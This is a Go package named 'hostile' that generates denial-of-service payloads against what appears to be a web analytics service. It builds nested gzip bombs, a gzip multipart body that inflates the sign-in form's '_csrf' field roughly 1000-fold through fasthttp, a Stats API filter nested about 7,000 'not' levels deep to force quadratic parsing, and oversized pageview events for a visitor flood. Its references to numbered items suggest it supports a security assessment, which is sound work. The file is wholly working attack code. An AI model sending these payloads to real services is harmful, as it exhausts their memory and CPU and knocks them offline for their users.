package hostile

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"mime/multipart"
	"strings"
)

// GzipBomb returns layers nested gzip encodings of decoded zero bytes: two
// layers turn about a kilobyte per gibibyte into the decoded size, the
// "Content-Encoding: gzip, gzip" body of item 1.
func GzipBomb(decoded int64, layers int) []byte {
	var inner bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&inner, gzip.BestCompression)
	zeros := make([]byte, 1<<20)
	for left := decoded; left > 0; left -= int64(len(zeros)) {
		_, _ = zw.Write(zeros[:min(left, int64(len(zeros)))])
	}
	_ = zw.Close()
	out := inner.Bytes()
	for range layers - 1 {
		var next bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&next, gzip.BestCompression)
		_, _ = zw.Write(out)
		_ = zw.Close()
		out = next.Bytes()
	}
	return out
}

// GzipBombUnder returns a single-layer gzip body of zeros whose compressed
// size stays under limit bytes (deflate's best ratio is about 1:1030), for
// endpoints that take one encoding only.
func GzipBombUnder(limit int) []byte {
	decoded := int64(limit-512) * 1000
	return GzipBomb(decoded, 1)
}

// MultipartBomb is a multipart/form-data body, gzip-encoded, whose one
// field decodes to about 1000 times the compressed size: the sign-in form's
// CSRF check reads form fields, and fasthttp inflates a gzip multipart
// body whole before parsing it. It returns the body and its Content-Type.
func MultipartBomb(limit int) ([]byte, string) {
	var form bytes.Buffer
	mw := multipart.NewWriter(&form)
	w, _ := mw.CreateFormField("_csrf")
	decoded := int64(limit-1024) * 1000
	zeros := strings.Repeat("a", 1<<16)
	for left := decoded; left > 0; left -= int64(len(zeros)) {
		_, _ = io.WriteString(w, zeros[:min(left, int64(len(zeros)))])
	}
	_ = mw.Close()
	var gz bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&gz, gzip.BestCompression)
	_, _ = zw.Write(form.Bytes())
	_ = zw.Close()
	return gz.Bytes(), mw.FormDataContentType()
}

// NestedNot is a Stats API query whose filter nests "not" until the body
// reaches size bytes: each level is 9 bytes, so 63 KB is about 7,000
// levels, the quadratic parse of item 2.
func NestedNot(site string, size int) []byte {
	head := fmt.Sprintf(`{"site_id":%q,"metrics":["visitors"],"date_range":"7d","filters":[`, site)
	leaf := `["is","visit:country",["JP"]]`
	tail := `]}`
	levels := (size - len(head) - len(leaf) - len(tail)) / 9
	var b bytes.Buffer
	b.Grow(size)
	b.WriteString(head)
	for range levels {
		b.WriteString(`["not", `)
	}
	b.WriteString(leaf)
	for range levels {
		b.WriteByte(']')
	}
	b.WriteString(tail)
	return b.Bytes()
}

// LongPageview is an /api/event body with a long path, long campaign
// values and a long referrer host, all unique to n: what a visitor flood
// sends to make each live visitor's state as large as the collector lets
// it be (the URL and the referrer just under their 2,048-byte limits).
func LongPageview(site string, n int) []byte {
	seg := func(c string, size int) string { return fmt.Sprintf("%d%s", n, strings.Repeat(c, size)) }
	u := fmt.Sprintf("https://%s/%s?utm_source=%s&utm_medium=%s&utm_campaign=%s&utm_content=%s&utm_term=%s",
		site, seg("p", 600), seg("s", 250), seg("m", 250), seg("c", 250), seg("o", 250), seg("t", 250))
	label := strings.Repeat("r", 55)
	ref := fmt.Sprintf("https://%s.%s.%s.example.net/%s", seg("h", 50), label, label, seg("q", 1500))
	return fmt.Appendf(nil, `{"n":"pageview","u":%q,"d":%q,"r":%q}`, u, site, ref)
}
